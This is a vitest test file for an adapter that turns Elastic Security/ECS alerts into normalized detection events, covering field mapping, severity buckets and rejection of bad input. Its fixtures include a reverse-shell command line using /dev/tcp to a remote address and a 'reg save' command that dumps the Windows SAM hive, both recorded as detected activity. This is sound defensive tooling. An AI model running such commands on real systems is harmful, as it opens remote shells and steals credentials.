import { describe, expect, it } from 'vitest';
import { adapterHarness } from '../../../test/helpers/adapters.js';
import { DetectionEvent } from '../detection-event.js';
import { ecsAdapter, get, values } from './ecs.js';

const { ctx, fixture, parse, one } = adapterHarness(ecsAdapter, 'ecs');

/** The smallest generic ECS alert the adapter takes. */
const minimal = {
  '@timestamp': '2026-11-26T09:00:00.000Z',
  event: { kind: 'alert' },
  rule: { name: 'Webshell write' },
  host: { name: 'web-01' },
};

describe('ecs adapter', () => {
  it('maps an Elastic Security alert with flattened kibana.alert.* keys', () => {
    const doc = fixture('elastic-alert-flattened.json');
    const ev = one(doc);
    expect(DetectionEvent.parse(ev)).toEqual(ev);
    expect(ev.id).toBe(ctx.id);
    expect(ev.source).toBe('ecs');
    // The source event's time, not the alert's creation (@timestamp).
    expect(ev.observedAt).toBe('2026-11-26T09:24:25.118Z');
    expect(ev.host).toEqual({
      id: '8f2e2c1b7a9d4e0f8a1b2c3d4e5f6a7b',
      name: 'web-01',
      addresses: ['10.0.0.5', 'fe80::250:56ff:fe8c:1a2b'],
      os: 'ubuntu',
    });
    expect(ev.detection).toEqual({
      ruleId: '76e4d92b-61c1-4a95-ab61-5fd94179a1ee',
      ruleName: 'Potential Reverse Shell via Suspicious Child Process',
      // The alert's severity (after any override) wins over the rule's default.
      severity: 'critical',
      techniques: ['T1059', 'T1071', 'T1059.004'],
      tactics: ['Execution', 'Command and Control'],
      tags: ['Domain: Endpoint', 'OS: Linux', 'Use Case: Threat Detection', 'Tactic: Execution'],
      message:
        'process event with process bash, parent process nginx, by www-data on web-01 created critical alert Potential Reverse Shell via Suspicious Child Process.',
    });
    expect(ev.process).toEqual({
      pid: 48213,
      ppid: 1322,
      name: 'bash',
      executable: '/usr/bin/bash',
      commandLine: 'bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      startTime: '2026-11-26T09:24:25.000Z',
      hash: { sha256: '6f1e3c5a7b9d2f4e6a8c0b2d4f6e8a0c2e4a6c8e0b2d4f6a8c0e2a4c6e8b0d2f' },
      cwd: '/var/www/html',
      user: { name: 'www-data', uid: 33 },
      ancestors: [
        { pid: 1322, name: 'nginx', executable: '/usr/sbin/nginx', commandLine: 'nginx: worker process' },
      ],
    });
    expect(ev.user).toEqual({ name: 'www-data', uid: 33 });
    expect(ev.network).toBeUndefined();
    expect(ev.raw).toEqual(doc);
  });

  it('maps a nested ECS alert: rule, numeric event.severity, ATT&CK arrays, inbound network', () => {
    const ev = one(fixture('ecs-alert-nested.json'));
    expect(ev.observedAt).toBe('2026-11-26T10:46:40.250Z');
    expect(ev.host).toEqual({
      id: 'bastion-2',
      name: 'bastion-2.corp.example',
      addresses: ['10.0.1.10'],
      os: 'debian',
    });
    expect(ev.detection).toEqual({
      ruleId: 'SSH-BRUTE-01',
      ruleName: 'SSH brute force',
      severity: 'high',
      techniques: ['T1110', 'T1110.001'],
      tactics: ['Credential Access'],
      tags: ['ssh', 'bruteforce'],
      message: '42 failed SSH logins for root from 198.51.100.23 in 60s',
    });
    // ingress: the source is the remote end.
    expect(ev.network).toEqual({
      direction: 'inbound',
      protocol: 'tcp',
      localAddress: '10.0.1.10',
      localPort: 22,
      remoteAddress: '198.51.100.23',
      remotePort: 53122,
    });
    expect(ev.process).toMatchObject({
      pid: 812,
      ppid: 1,
      name: 'sshd',
      ancestors: [{ pid: 1, name: 'systemd' }],
    });
    expect(ev.user).toEqual({ name: 'root', uid: 0 });
  });

  it('reads the 7.x signal.* form of an Elastic alert', () => {
    const ev = one({
      '@timestamp': '2021-03-12T10:48:20.000Z',
      signal: {
        original_time: '2021-03-12T10:48:14.000Z',
        rule: {
          id: '6c3b2a10-8a7f-11eb-9b5e-6d2f0c3a1b4e',
          rule_id: 'a1b2c3d4-0000-4000-8000-000000000001',
          name: 'Credential dump via reg save',
          severity: 'high',
          risk_score: 73,
          threat: [
            {
              tactic: { name: 'Credential Access' },
              technique: [{ id: 'T1003', subtechnique: [{ id: 'T1003.002' }] }],
            },
          ],
        },
        reason: 'reg.exe saved the SAM hive',
      },
      host: { name: 'win-dc-725' },
      process: { pid: 4696, name: 'reg.exe', args: ['reg', 'save', 'HKLM\\sam', 'C:\\t\\sam'] },
    });
    expect(ev.observedAt).toBe('2021-03-12T10:48:14.000Z');
    expect(ev.detection).toMatchObject({
      ruleId: 'a1b2c3d4-0000-4000-8000-000000000001',
      ruleName: 'Credential dump via reg save',
      severity: 'high',
      techniques: ['T1003', 'T1003.002'],
      tactics: ['Credential Access'],
      message: 'reg.exe saved the SAM hive',
    });
    // No command_line: the args, joined.
    expect(ev.process?.commandLine).toBe('reg save HKLM\\sam C:\\t\\sam');
  });

  it('reads nested, dotted and mixed forms of a field alike', () => {
    expect(get({ kibana: { alert: { rule: { name: 'a' } } } }, 'kibana.alert.rule.name')).toBe('a');
    expect(get({ 'kibana.alert.rule.name': 'b' }, 'kibana.alert.rule.name')).toBe('b');
    expect(get({ kibana: { 'alert.rule.name': 'c' } }, 'kibana.alert.rule.name')).toBe('c');
    expect(get({ 'kibana.alert': { rule: { name: 'd' } } }, 'kibana.alert.rule.name')).toBe('d');
    expect(get({ 'kibana.alert.rule.name': ['e'] }, 'kibana.alert.rule.name')).toBe('e');
    expect(
      values({ threat: [{ technique: [{ id: 'T1' }, { id: ['T2', 'T3'] }] }] }, 'threat.technique.id'),
    ).toEqual(['T1', 'T2', 'T3']);
    expect(get({ kibana: null }, 'kibana.alert.rule.name')).toBeUndefined();
    expect(get({ toString: 'x' }, 'constructor')).toBeUndefined();
  });

  it('unwraps a search hit (_source) and keeps the hit as raw', () => {
    const hit = { _index: '.internal.alerts-security.alerts-default-000001', _id: 'abc', _source: minimal };
    const ev = one(hit);
    expect(ev.detection.ruleName).toBe('Webshell write');
    expect(ev.raw).toEqual(hit);
  });

  it.each([
    [0, 'low'],
    [21, 'low'],
    [22, 'medium'],
    [47, 'medium'],
    [48, 'high'],
    [73, 'high'],
    [74, 'critical'],
    [99, 'critical'],
  ])('buckets a risk score of %s as %s, like Elastic', (risk, severity) => {
    expect(one({ ...minimal, 'kibana.alert.risk_score': risk }).detection.severity).toBe(severity);
  });

  it('defaults the severity to medium and the rule id to the rule name', () => {
    expect(one(minimal).detection).toMatchObject({
      ruleId: 'Webshell write',
      severity: 'medium',
      techniques: [],
    });
  });

  it('takes a non-alert that names a rule as a detection of that rule', () => {
    const ev = one({
      ...minimal,
      event: { kind: 'event', severity: 10 },
      rule: { name: 'fw-deny-out', id: '1002' },
    });
    expect(ev.detection).toMatchObject({ ruleId: '1002', ruleName: 'fw-deny-out', severity: 'low' });
  });

  it('skips Elastic building-block alerts', () => {
    const doc = { ...fixture('elastic-alert-flattened.json'), 'kibana.alert.building_block_type': 'default' };
    expect(parse(doc)).toEqual({
      ok: true,
      events: [],
      skipped: {
        count: 1,
        reason: 'Elastic building-block alert (an input to other rules, not shown as an alert)',
      },
    });
  });

  it('accepts an epoch-millisecond @timestamp', () => {
    expect(one({ ...minimal, '@timestamp': 1795685067123 }).observedAt).toBe('2026-11-26T09:24:27.123Z');
  });

  it.each([
    [fixture('malformed-not-alert.json'), 'event.kind: "event" is not an alert'],
    [{ host: { name: 'h' }, '@timestamp': '2026-11-26T09:00:00Z' }, 'event.kind: missing'],
    [{ ...minimal, rule: undefined }, 'kibana.alert.rule.name: missing'],
    [
      { ...minimal, 'kibana.alert.severity': 'high', rule: undefined, event: undefined },
      'kibana.alert.rule.name',
    ],
    [{ ...minimal, host: undefined }, 'host: give host.id, host.name or host.hostname'],
    [{ ...minimal, '@timestamp': undefined }, '@timestamp: missing'],
    [{ ...minimal, '@timestamp': 'yesterday' }, '@timestamp: not an ISO-8601 time'],
    [[1, 2], '(root)'],
    ['a string', '(root)'],
  ])('refuses %j and names the problem (%s)', (input, path) => {
    const r = parse(input);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.issues.join('\n')).toContain(path);
  });
});
